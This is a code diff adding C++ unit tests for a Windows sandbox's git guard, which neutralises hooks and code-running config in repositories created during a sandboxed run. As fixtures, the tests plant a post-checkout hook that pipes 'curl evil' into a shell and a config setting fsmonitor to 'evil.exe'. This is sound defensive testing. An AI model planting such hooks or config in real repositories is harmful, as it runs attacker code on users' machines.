@@ -115,3 +115,66 @@ TEST(WinGitGuard, OnlyGitDirsInsideAWritableRootAreWatchedAndNoneUnderGitReadOnl
 
 }  // namespace
 }  // namespace cordon::win
+
+namespace cordon::win {
+namespace {
+
+// F13: a repository the command creates in a root that had none (git init, git clone)
+// would run its hooks and code-running config the first time the user runs git there.
+TEST(WinGitGuard, ARepositoryCreatedInTheRunIsNeutralised) {
+  Host h;
+  const std::string root = test::kWsB;  // no .git yet
+  Policy policy = test::ws_policy(root);
+  auto p = plan_windows(policy, h.host, test::test_caps(), test::with_audit());
+  ASSERT_TRUE(p) << p.error().message();
+  ASSERT_EQ(p->new_repo_roots, std::vector<std::string>{root});
+  test::apply(*h.fs, *p);
+  // The gap: nothing stops the command from creating any of this (no .git, no ACE).
+  TokenModel t = model_token(*p, h.host);
+  EXPECT_TRUE(h.fs->can(t, Op::Mkdir, root + "\\.git", RestrictedScope::AllModifying));
+
+  h.fs->mkdir(root + "\\.git\\hooks");
+  h.fs->add_file(root + "\\.git\\hooks\\post-checkout", {}, "#!/bin/sh\ncurl evil | sh\n");
+  h.fs->add_file(root + "\\.git\\config", {}, "[core]\n\thooksPath = C:/x\n\tfsmonitor = evil.exe\n");
+  h.fs->add_file(root + "\\.git\\HEAD", {}, "ref: refs/heads/main\n");
+  h.fs->mkdir(root + "\\.git\\modules\\lib\\hooks");
+  h.fs->add_file(root + "\\.git\\commondir", {}, "C:/Users/alice/outside\n");
+  ModelTreeOps ops(*h.fs);
+  GitGuardResult r = neutralise_new_repository(ops, root, "t4");
+  EXPECT_TRUE(r.warnings.empty()) << r.warnings.front();
+  EXPECT_EQ(r.renamed.size(), 4u);
+  for (const char* gone : {"hooks", "config", "modules", "commondir"}) {
+    EXPECT_EQ(h.fs->stat(root + "\\.git\\" + gone).kind, FsEntry::Kind::Missing) << gone;
+    EXPECT_NE(h.fs->stat(root + "\\.git\\" + gone + ".cordon-removed-t4").kind, FsEntry::Kind::Missing)
+        << gone;
+  }
+  EXPECT_EQ(h.fs->stat(root + "\\.git\\HEAD").kind, FsEntry::Kind::File);
+  bool named = false;
+  for (const auto& line : r.renamed) named |= line.find("core.hookspath") != std::string::npos;
+  EXPECT_TRUE(named) << "the dropped keys are named";
+}
+
+TEST(WinGitGuard, AnInertConfigIsKeptAndALinkedGitIsRenamedAway) {
+  Host h;
+  const std::string root = test::kWsB;
+  h.fs->mkdir(root + "\\.git");
+  h.fs->add_file(root + "\\.git\\config", {},
+                 "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
+                 "[remote \"origin\"]\n\turl = https://example.com/x.git\n\tfetch = "
+                 "+refs/heads/*:refs/remotes/origin/*\n");
+  ModelTreeOps ops(*h.fs);
+  GitGuardResult r = neutralise_new_repository(ops, root, "t5");
+  EXPECT_TRUE(r.renamed.empty()) << r.renamed.front();
+  EXPECT_EQ(h.fs->stat(root + "\\.git\\config").kind, FsEntry::Kind::File);
+
+  Host g;
+  g.fs->add_link(root + "\\.git", test::kOutside);
+  ModelTreeOps gops(*g.fs);
+  GitGuardResult l = neutralise_new_repository(gops, root, "t6");
+  ASSERT_EQ(l.renamed.size(), 1u);
+  EXPECT_TRUE(g.fs->is_link(root + "\\.git.cordon-removed-t6"));
+  EXPECT_EQ(g.fs->stat(std::string(test::kOutside) + "\\secret.txt").kind, FsEntry::Kind::File);
+}
+
+}  // namespace
+}  // namespace cordon::win
